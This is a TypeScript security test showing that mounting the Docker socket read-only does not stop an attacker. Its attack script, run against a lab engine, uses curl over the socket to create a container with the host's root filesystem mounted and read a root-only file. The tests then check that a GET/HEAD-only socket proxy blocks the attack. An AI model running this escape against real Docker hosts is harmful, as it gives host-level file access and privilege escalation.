/**
 * Issue 20, item 5: a read-only bind mount of the Docker socket restricts nothing. On Debian's real dockerd (20.10),
 * with a container that holds the engine's socket mounted `:ro` as the log collector once did: `POST
 * /containers/create` of a container with the host's `/` mounted answers 201, the container starts, and it reads a
 * root-only file of the host. A Unix socket's "read-only" mount only stops writes to the inode; a
 * `connect()` needs write permission on the socket file, which the mount does not change (root has it anyway), and
 * the API is the requests sent over the connection.
 *
 * What stops it now: no container of the stack but the socket proxy mounts the socket (the program's declared
 * containers), the same attack from Alloy's container as declared finds no socket at all, and the proxy's allowlist
 * as wollomatic/socket-proxy 1.12.2 computes it from the declared command and environment
 * (e2e/attack/socketProxyAllowlist.ts, from its source) has no write method: POST is answered 405.
 */
import * as crypto from "crypto";
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { startDockerEngine, type DockerEngine } from "../../e2e/dockerEngine";
import { attackSettings } from "../../e2e/attack/settings";
import { socketProxyAllowlist, socketProxyDecision, SOCKET_PROXY_METHODS } from "../../e2e/attack/socketProxyAllowlist";
import { e2eSecrets } from "../../e2e/stack";
import { buildBaseImage } from "../../lab/images/build";
import { containerName, socketProxyName } from "../../settings";
import { declareStack } from "../helpers/declaredStack";
import { installPulumiMocks } from "../helpers/pulumiMocks";
import { describeWithTools } from "../helpers/tools";

jest.setTimeout(240_000);
const mocks = installPulumiMocks("koprogo-observability", "prod");

/**
 * The attacker's script, run in a container holding the socket at /var/run/docker.sock: create a container with
 * the host's / at /host that prints `secretPath`, start it, wait, print its logs.
 */
function attackScript(image: string, secretPath: string): string {
  const body = JSON.stringify({
    Image: image,
    Entrypoint: ["/bin/cat"],
    Cmd: [`/host${secretPath}`],
    // Root in a container of the default profile, the host's / mounted: every file of the host (a privileged
    // container would also do, but runc 1.1 cannot apply every capability of this machine's newer kernel).
    HostConfig: { Binds: ["/:/host:ro"] },
  });
  const api = 'curl -sS --unix-socket /var/run/docker.sock -H "Content-Type: application/json"';
  return [
    "set -u",
    `out=$(${api} -o /tmp/created -w '%{http_code}' -X POST -d '${body}' http://localhost/v1.41/containers/create) || { echo "create: curl failed ($?)"; exit 0; }`,
    'echo "create: $out $(cat /tmp/created)"',
    'id=$(sed -n \'s/.*"Id":"\\([0-9a-f]*\\)".*/\\1/p\' /tmp/created)',
    '[ -n "$id" ] || exit 0',
    `echo "start: $(${api} -o /tmp/started -w '%{http_code}' -X POST http://localhost/v1.41/containers/$id/start) $(cat /tmp/started)"`,
    `${api} -o /dev/null -X POST http://localhost/v1.41/containers/$id/wait`,
    `echo "logs: $(${api} 'http://localhost/v1.41/containers/'$id'/logs?stdout=1' | tr -cd '[:print:]')"`,
  ].join("\n");
}

describeWithTools(
  "the Docker socket mounted read-only (real engine)",
  ["dockerd", "docker", "unshare", "nsenter"],
  () => {
    let engine: DockerEngine;
    let image: string;
    let secretDir: string;
    const secret = crypto.randomBytes(12).toString("hex");
    const socket = () => path.join(engine.dir, "docker.sock");

    beforeAll(async () => {
      engine = await startDockerEngine({ name: "rosock" });
      // Debian 12 minbase with curl (lab/images/bases.ts): curl speaks HTTP over a Unix socket.
      image = await buildBaseImage(engine, "debian");
      secretDir = fs.mkdtempSync(path.join(os.tmpdir(), "koprogo-rosock-"));
      fs.chmodSync(secretDir, 0o700);
      fs.writeFileSync(path.join(secretDir, "secret"), secret, { mode: 0o600 });
    });
    afterAll(async () => {
      try {
        await engine?.stop();
      } finally {
        if (secretDir) fs.rmSync(secretDir, { recursive: true, force: true });
      }
    });

    /** Runs the attack in a container (unprivileged, every capability dropped) with `binds`; returns its output. */
    const attackWith = (binds: readonly string[]) =>
      engine.docker([
        "run",
        "--rm",
        "--cap-drop",
        "ALL",
        "--security-opt",
        "no-new-privileges",
        ...binds.flatMap((b) => ["-v", b]),
        "--entrypoint",
        "/bin/sh",
        image,
        "-c",
        attackScript(image, path.join(secretDir, "secret")),
      ]);

    it("the old design: the socket read-only in the log collector creates a container (201) that reads a root-only host file", async () => {
      const out = await attackWith([`${socket()}:/var/run/docker.sock:ro`]);
      console.log(`read-only socket:\n${out}`);
      expect(out).toMatch(/^create: 201 \{"Id":"[0-9a-f]{64}"/m);
      expect(out).toMatch(/^start: 204 $/m);
      expect(out).toContain(`logs: ${secret}`);
    });

    it("now: only the socket proxy mounts the socket; from Alloy's container as declared there is no socket", async () => {
      const settings = attackSettings("10.233");
      const declared = await declareStack(mocks, settings, e2eSecrets());
      const holders = declared.containers.filter((c) =>
        c.mounts.some((m) => m.kind === "bind" && m.source === settings.alloy.dockerSocket),
      );
      expect(holders.map((c) => c.name)).toEqual([socketProxyName(settings)]);
      const alloy = declared.containers.find((c) => c.name === containerName(settings, "alloy"))!;
      // Alloy's declared binds that could carry the socket, with the lab engine's socket in place of the host's.
      const socketBinds = alloy.mounts
        .filter((m) => m.kind === "bind" && /docker\.sock/.test(`${m.source} ${m.target}`))
        .map((m) => `${socket()}:${m.target}:ro`);
      expect(socketBinds).toEqual([]);
      const out = await attackWith(socketBinds);
      console.log(`Alloy's declared mounts:\n${out}`);
      expect(out).toMatch(/^create: curl failed \(7\)$/m);
      expect(out).not.toContain(secret);
    });

    it("now: the proxy's allowlist (socket-proxy 1.12.2's rules, on the declared command and environment) answers POST /containers/create 405", async () => {
      const settings = attackSettings("10.233");
      const declared = await declareStack(mocks, settings, e2eSecrets());
      const proxy = declared.containers.find((c) => c.name === socketProxyName(settings))!;
      const list = socketProxyAllowlist(proxy.command, proxy.env);
      expect(Object.keys(list.methods).sort()).toEqual(["GET", "HEAD"]);
      expect(
        SOCKET_PROXY_METHODS.filter((m) => socketProxyDecision(list, m, "/v1.41/containers/create") !== 405),
      ).toEqual(["GET", "HEAD"]);
      expect(socketProxyDecision(list, "GET", "/v1.41/containers/create")).toBe(403);
      expect(socketProxyDecision(list, "GET", "/v1.41/containers/abc/logs")).toBe("proxied");
      expect(list.allowFrom).toEqual([containerName(settings, "alloy")]);
      expect(list.labelAllowlists).toBe(false);
      // An SP_ALLOW_POST in its environment would open POST although no flag names it (env.go, effectiveMethodParams).
      expect(
        socketProxyDecision(socketProxyAllowlist(proxy.command, ["SP_ALLOW_POST=.*"]), "POST", "/containers/create"),
      ).toBe("proxied");
    });
  },
);
